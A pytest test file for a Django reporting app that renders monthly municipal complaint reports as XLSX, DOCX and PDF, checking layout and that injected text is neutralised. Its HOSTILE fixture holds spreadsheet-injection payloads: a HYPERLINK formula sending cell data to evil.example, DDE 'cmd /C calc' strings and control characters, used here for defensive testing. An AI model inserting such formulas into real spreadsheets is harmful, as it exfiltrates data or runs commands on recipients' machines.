"""The П.21 files can be handed over unedited, and no message can poison or break them.

Hostile text (a formula, ESC, NUL, 100,000 characters) is put in every place text from outside
reaches a report — a department's name, a topic, a place, a network, a case summary — and every
format is rendered and read back. The layout rules are checked on the files themselves: typed
XLSX cells with a filter and a frozen header, landscape DOCX sections with fitting columns, PDF
pages that never hold a heading alone. The files are also written to ``test-artifacts/reports``
for a person to look at.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest

from tests.integration.pdftext import pdf_pages, pdf_text
from tests.integration.reports_seed import REPORT_NOW, seed_may_2026

pytestmark = pytest.mark.django_db

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "reports"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
LONG = "Очень длинное сообщение. " * 4000  # 100,000 characters
HOSTILE = {
    "department": FORMULA,
    "topic": "+cmd|' /C calc'!A0",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "network": "\t=1+1",
    "summary": "-2+3 \x1b[31mкрасный\x1b[0m и NUL\x00 " + LONG,
}
SECTION_HEADINGS = (
    "1. Общие показатели",
    "2. Своевременность по подразделениям",
    "3. Наиболее просроченные обращения",
    "4. Соблюдение сроков по этапам",
    "5. Динамика обращений",
    "6. Диаграммы",
)


@pytest.fixture
def may_report(org: Any) -> Any:
    from otklik.reports.queries import build_monthly_report

    seed_may_2026(org)
    return build_monthly_report(org.adm, dt.date(2026, 5, 1), dt.date(2026, 5, 31), now=REPORT_NOW)


@pytest.fixture
def hostile_report(may_report: Any) -> Any:
    report = dataclasses.replace(may_report)
    report.departments = [
        dataclasses.replace(report.departments[0], name=HOSTILE["department"]),
        *report.departments[1:],
    ]
    report.topics = [dataclasses.replace(report.topics[0], name=HOSTILE["topic"]), *report.topics[1:]]
    report.places = [dataclasses.replace(report.places[0], name=HOSTILE["place"]), *report.places[1:]]
    report.networks = [dataclasses.replace(report.networks[0], name=HOSTILE["network"]), *report.networks[1:]]
    report.worst_overdue = [
        dataclasses.replace(report.worst_overdue[0], summary=HOSTILE["summary"]),
        *report.worst_overdue[1:],
    ]
    return report


def _save(name: str, data: bytes) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / name).write_bytes(data)


def _no_controls(text: str) -> bool:
    return not any((ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F for c in text)


# ---- XLSX ------------------------------------------------------------------------------------


def test_xlsx_cells_are_typed_filtered_and_frozen(may_report: Any) -> None:
    from openpyxl import load_workbook

    from otklik.reports.xlsx import render_xlsx

    data = render_xlsx(may_report)
    _save("may-2026.xlsx", data)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Сводка", "Подразделения", "Этапы", "Тематики", "Места", "Сети", "Просрочки", "Сведения"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "B3", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A2:"), ws.title
        assert all(ws.column_dimensions[c].width >= 9 for c in "AB"), ws.title
    overdue = list(wb["Просрочки"].iter_rows(min_row=3))
    due = overdue[0][4]
    assert isinstance(due.value, dt.datetime) and due.number_format == "DD.MM.YYYY HH:MM"
    changes = [r[4] for r in wb["Тематики"].iter_rows(min_row=3)]
    assert [c.value for c in changes] == [3, 0, 1] and all(c.number_format == "+0;-0;0" for c in changes)
    assert isinstance(changes[0].value, int)  # «+3» is a number, not the text "+3"
    dept = {r[0].value: r for r in wb["Подразделения"].iter_rows(min_row=3)}
    assert dept["Отдел ЖКХ, строительства и транспорта"][6].value == 33.3


def test_xlsx_never_holds_a_formula_or_a_control_character(hostile_report: Any) -> None:
    from openpyxl import load_workbook

    from otklik.reports.xlsx import render_xlsx

    data = render_xlsx(hostile_report)
    _save("hostile.xlsx", data)
    wb = load_workbook(io.BytesIO(data))
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert _no_controls(cell.value) and len(cell.value) <= 32_000
                    texts[cell.value[:40]] = cell
    formula = texts[FORMULA[:40]]
    assert formula.value == FORMULA and formula.quotePrefix  # shown as typed, never evaluated
    assert texts[HOSTILE["topic"][:40]].quotePrefix and texts[HOSTILE["place"][:40]].quotePrefix
    summary = next(c for k, c in texts.items() if k.startswith("-2+3"))
    assert summary.quotePrefix and "\x1b" not in summary.value and "\x00" not in summary.value
    network = next(c for k, c in texts.items() if k.startswith("=1+1"))
    assert network.quotePrefix  # a leading tab is a formula trigger too


# ---- DOCX ------------------------------------------------------------------------------------


def test_docx_puts_wide_tables_on_landscape_pages_with_fitting_columns(may_report: Any) -> None:
    from docx import Document
    from docx.enum.section import WD_ORIENT

    from otklik.reports.docx import render_docx

    data = render_docx(may_report)
    _save("may-2026.docx", data)
    doc = Document(io.BytesIO(data))
    orientations = [s.orientation for s in doc.sections]
    assert orientations == [WD_ORIENT.PORTRAIT, WD_ORIENT.LANDSCAPE, WD_ORIENT.PORTRAIT]
    landscape = doc.sections[1]
    assert landscape.page_width > landscape.page_height
    dept_table = next(t for t in doc.tables if t.rows[0].cells[0].text == "Подразделение")
    widths = [c.width for c in dept_table.rows[0].cells]
    usable = landscape.page_width - landscape.left_margin - landscape.right_margin
    assert sum(widths) <= usable and widths[0] > 2 * max(widths[1:])  # names get room, figures what they need
    assert len(set(widths[1:])) > 1  # not 13 equal columns
    row = next(r for r in dept_table.rows if r.cells[0].text == "Отдел ЖКХ, строительства и транспорта")
    assert row.cells[0].paragraphs[0].alignment == 0 and row.cells[1].paragraphs[0].alignment == 2  # left, right
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Главе" in text and "В. Главин" in text and "М. Кураторова" in text  # addressee and signature
    headings = [p for p in doc.paragraphs if p.text in SECTION_HEADINGS]
    assert len(headings) == 6 and all(p.paragraph_format.keep_with_next for p in headings)


def test_docx_neutralises_hostile_text(hostile_report: Any) -> None:
    from docx import Document

    from otklik.reports.docx import render_docx

    data = render_docx(hostile_report)
    _save("hostile.docx", data)
    doc = Document(io.BytesIO(data))
    cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
    assert "'" + FORMULA in cells and "'" + HOSTILE["topic"] in cells
    assert all(_no_controls(c) for c in cells)
    summary = next(c for c in cells if c.startswith("'-2+3"))
    assert len(summary) < 500 and summary.endswith("…") and "красный" in summary


# ---- PDF -------------------------------------------------------------------------------------


def _check_pages(pages: list[list[str]]) -> None:
    for number, lines in enumerate(pages, start=1):
        body = [line for line in lines if "— стр." not in line]  # the footer
        assert body, f"page {number} is empty"
        assert not set(body) <= set(SECTION_HEADINGS), f"page {number} holds only a heading: {body}"
        assert body[-1] not in SECTION_HEADINGS, f"page {number} ends with a heading: {body[-1]}"


def test_pdf_never_leaves_a_heading_alone_and_signs_off(may_report: Any) -> None:
    from otklik.reports.pdf import render_pdf

    data = render_pdf(may_report)
    _save("may-2026.pdf", data)
    pages = pdf_pages(data)
    assert len(pages) >= 3
    _check_pages(pages)
    text = pdf_text(data)
    for heading in SECTION_HEADINGS:
        assert heading in text
    assert "Главе" in text and "В. Главин" in text and "Куратор" in text and "М. Кураторова" in text


def test_pdf_with_many_departments_keeps_headings_with_their_tables(may_report: Any) -> None:
    """Forty departments push every section across page breaks."""
    from otklik.reports.pdf import render_pdf

    report = dataclasses.replace(may_report)
    base = report.departments[0]
    report.departments = [dataclasses.replace(base, name=f"Подразделение № {i}") for i in range(40)]
    report.topics = report.topics * 12
    data = render_pdf(report)
    _save("many-departments.pdf", data)
    _check_pages(pdf_pages(data))


def test_pdf_renders_hostile_text(hostile_report: Any) -> None:
    from otklik.reports.pdf import render_pdf

    data = render_pdf(hostile_report)
    _save("hostile.pdf", data)
    lines = pdf_text(data).splitlines()
    assert any(line.startswith("'=HYPERLINK(") for line in lines)  # the cell wraps after it
    assert any(line.startswith("'-2+3 [31mкрасный[0m") for line in lines)
    _check_pages(pdf_pages(data))


# ---- charts ----------------------------------------------------------------------------------


def test_charts_keep_long_names_whole_and_legends_off_the_bars(may_report: Any) -> None:
    from otklik.reports.charts import timeliness_chart, wrap

    assert wrap("Комитет по управлению муниципальным имуществом и земельными отношениями") == (
        "Комитет по управлению\nмуниципальным имуществом и\nземельными отношениями"
    )
    png = timeliness_chart(may_report)
    _save("timeliness.png", png)
    assert png.startswith(b"\x89PNG")


# ---- the dispatch ----------------------------------------------------------------------------


def test_one_poisoned_message_cannot_break_the_monthly_dispatch(
    org: Any, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    from openpyxl import load_workbook

    from otklik.cases.models import Case
    from otklik.reports.models import ReportDispatch
    from otklik.reports.services import monthly_dispatch
    from tests.conftest import chita

    settings.MEDIA_ROOT = str(tmp_path)
    cases = seed_may_2026(org)
    Case.objects.filter(pk=cases["e"].pk).update(summary='=HYPERLINK("x") \x1b[1m\x1b ESC')
    with django_capture_on_commit_callbacks(execute=True):
        sent = monthly_dispatch(chita(2026, 6, 1, 9, 5))
    assert len(sent) == 1
    dispatch = ReportDispatch.objects.get()
    assert len(dispatch.files) == 3 and dispatch.failures == []
    wb = load_workbook(tmp_path / dispatch.files[1])
    summaries = [r[1] for r in wb["Просрочки"].iter_rows(min_row=3, values_only=True)]
    assert summaries[0] == '=HYPERLINK("x") [1m ESC'


def test_a_format_that_fails_is_reported_and_the_others_are_sent(
    org: Any, settings: Any, tmp_path: Path, monkeypatch: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from otklik.notify.models import Notification
    from otklik.reports import services
    from otklik.reports.models import ReportDispatch
    from tests.conftest import chita

    settings.MEDIA_ROOT = str(tmp_path)
    seed_may_2026(org)
    real = services.report_render

    def render(report: Any, fmt: str) -> bytes:
        if fmt == "pdf":
            raise RuntimeError("the PDF library broke")
        return real(report, fmt)

    monkeypatch.setattr(services, "report_render", render)
    with django_capture_on_commit_callbacks(execute=True):
        assert len(services.monthly_dispatch(chita(2026, 6, 1, 9, 5))) == 1
    dispatch = ReportDispatch.objects.get()
    assert [Path(f).suffix for f in dispatch.files] == [".docx", ".xlsx"]
    assert dispatch.failures == [{"format": "pdf", "error": "RuntimeError: the PDF library broke"}]
    note = Notification.objects.filter(kind="report").first()
    assert note is not None and "PDF не сформирован" in note.body
    assert services.monthly_dispatch(chita(2026, 6, 1, 10, 5)) == []  # not retried every hour
